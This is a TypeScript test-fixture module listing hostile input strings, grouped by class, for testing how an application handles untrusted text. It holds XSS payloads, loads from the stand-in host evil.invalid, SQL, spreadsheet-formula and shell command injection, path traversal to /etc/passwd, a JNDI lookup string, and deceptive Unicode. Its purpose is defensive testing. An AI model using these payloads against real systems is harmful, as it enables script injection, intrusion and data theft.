// Text that tries to be more than text. Every entry is public: the classes of the OWASP cheat sheets on script
// injection and its filters, of HTML5 and mutation vectors, and what other readers of text stumble over. What
// runs, if anything runs, sets `window.__pwned`; what asks for a file asks a host that does not exist.

const RUN = 'window.__pwned=1';

/** Markup and addresses that would run a script, load something, or move the page elsewhere. */
const SCRIPTS: string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.invalid/x.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" alt='`,
  `<img/src=x/onerror=${RUN}//`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<img src=javascript:${RUN}>`,
  `<img src=//evil.invalid/beacon.png>`,
  `<img srcset="//evil.invalid/1.png 1x">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>klik</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${RUN}></svg>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>parent.__pwned=1</script>">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>`,
  `<x onpointerenter=${RUN} style="position:fixed;inset:0">x</x>`,
  `<x contenteditable onblur=${RUN} tabindex=1 id=x>x</x>`,
  `<style>@import '//evil.invalid/x.css';*{background:url(//evil.invalid/y.png)}</style>`,
  `<div style="background:url(//evil.invalid/z.png);width:expression(${RUN})">`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<link rel=prefetch href=//evil.invalid/x>`,
  `<meta http-equiv=refresh content="0;url=//evil.invalid/">`,
  `<base href=//evil.invalid/>`,
  `<a href="javascript:${RUN}">klik</a>`,
  `<a href="java&#x0A;script:${RUN}">klik</a>`,
  `<a href="&#106;&#97;&#118;&#97;script:${RUN}">klik</a>`,
  `<a href="vbscript:msgbox(1)" target=_blank ping=//evil.invalid/>klik</a>`,
  `<form action=//evil.invalid/><button formaction="javascript:${RUN}">klik</button></form>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `javascript:${RUN}`,
  `  java\tscript:${RUN}`,
  `data:text/html,<script>opener.__pwned=1</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u{ff1c}script\u{ff1e}${RUN}\u{ff1c}/script\u{ff1e}`,
  `' onmouseover=${RUN} x='`,
  `" autofocus onfocus=${RUN} x="`,
  `\`-(${RUN})-\``,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{@html '<img src=x onerror=${RUN}>'}`,
  `__proto__`,
  `constructor`,
  `toString`,
  // One text for many contexts, after 0xsobky.
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
];

/** Metacharacters of what else reads our text: queries, texts with values, documents, sheets, file names. */
const METACHARACTERS: string[] = [
  `'; DROP TABLE note; --`,
  `" OR ""="`,
  `NEAR("a" "b", 5) AND title : x* NOT (`,
  `%_\\%`,
  `{ $name } { NUMBER(1) } { -term } { "x" ->\n *[a] b\n }`,
  `#import "@preview/x:1.0.0": *; #read("/etc/passwd") #eval("1+1") $x^2$ *vet* _schuin_ @bron <label>`,
  `[klik](javascript:${RUN}) ![x](//evil.invalid/x.png) **vet** <!-- weg --> \`\`\`js\n${RUN}\n\`\`\``,
  `=HYPERLINK("//evil.invalid","klik")`,
  `=cmd|'/C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `../../../../etc/passwd`,
  `C:\\Windows\\..\\CON:*?"<>|.kring`,
  `TY  - JOUR\nTI  - verborgen\nER  - `,
  `@article{x, title = {\\input{/etc/passwd} \\write18{id}}}`,
  `%s%n%x %d {0} \${jndi:ldap://evil.invalid/a}`,
  `$(id) \`id\` ; id | id && id`,
  `null`,
  `-1`,
  `1e309`,
];

/** Characters that hide, turn around or pile up what is read. */
const CHARACTERS: string[] = [
  'links \u202Egninnipsretal\u202C rechts',
  '\u2066\u2067\u2068genest\u2069\u2069\u2069',
  '\u200Fmarkering\u200E en \u061C nog een',
  'on\u200Bzicht\u200Cbaar\u200D ver\u2060bonden\uFEFF',
  'a\u00ADb\u00ADc zacht afbreken',
  '\u2028regel\u2029alinea',
  'tab\tin\ttekst',
  'Z' + '\u0351\u0321\u0489\u033A\u0316'.repeat(40) + 'algo',
  'é is niet e\u0301 en \u212B is niet Å',
  '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏿 🇳🇱 #️⃣ 🧑‍🦽‍➡️',
  '\u{E0001}\u{E0061}\u{E007F} en \u{F0000} en \uFFFC',
  '\u{1D5E9}\u{1D5F2}\u{1D601} is geen opmaak',
  'раураl lijkt op paypal',
];

/** A sample of every script that a keyboard of Europe, Africa, America or Asia writes much. */
const SCRIPTS_OF_THE_WORLD: string[] = [
  'Ελληνικά',
  'Кириллица',
  'العربية ‏١٢٣ مرحبا بالعالم',
  'עברית שלום 123',
  'فارسی و اردو ٹ ڈ',
  'हिन्दी क्षत्रिय',
  'বাংলা ক্ষ',
  'தமிழ்',
  'తెలుగు',
  'ಕನ್ನಡ',
  'മലയാളം',
  'ગુજરાતી',
  'ਪੰਜਾਬੀ',
  'සිංහල',
  'ไทย น้ำ',
  'ລາວ',
  'ខ្មែរ',
  'မြန်မာ',
  'བོད་སྐད',
  '中文 繁體 简体',
  '日本語 かな カナ',
  '한국어 각',
  'ქართული',
  'Հայերեն',
  'አማርኛ',
  'ᏣᎳᎩ',
  'ᐃᓄᒃᑎᑐᑦ',
  'ⵜⴰⵎⴰⵣⵉⵖⵜ',
  'ޑިވެހި',
  'ܣܘܪܝܝܐ',
  'ᠮᠣᠩᠭᠣᠯ',
  'ߒߞߏ',
  '𞤀𞤣𞤤𞤢𞤥',
  '𐍅𐌿𐌻𐍆𐌹𐌻𐌰',
];

/** A text under the name of its class. */
export interface Hostile {
  kind: 'script' | 'metacharacter' | 'character' | 'writing' | 'length';
  text: string;
}

const of = (kind: Hostile['kind'], texts: string[]): Hostile[] => texts.map((text) => ({ kind, text }));

/** Texts put together, so many in each. */
function inLines(texts: string[], many: number): string[] {
  const lines = Array.from({ length: Math.ceil(texts.length / many) }, (_, at) => texts.slice(at * many, (at + 1) * many));
  return lines.map((line) => line.join(' '));
}

/** Everything, the longest last. */
export const HOSTILE: Hostile[] = [
  ...of('script', SCRIPTS),
  ...of('metacharacter', METACHARACTERS),
  ...of('character', CHARACTERS),
  // Many in one line: what could go wrong with one of them goes wrong beside the others as well.
  ...of('writing', inLines(SCRIPTS_OF_THE_WORLD, 12)),
  ...of('length', ['w'.repeat(10_000)]),
];
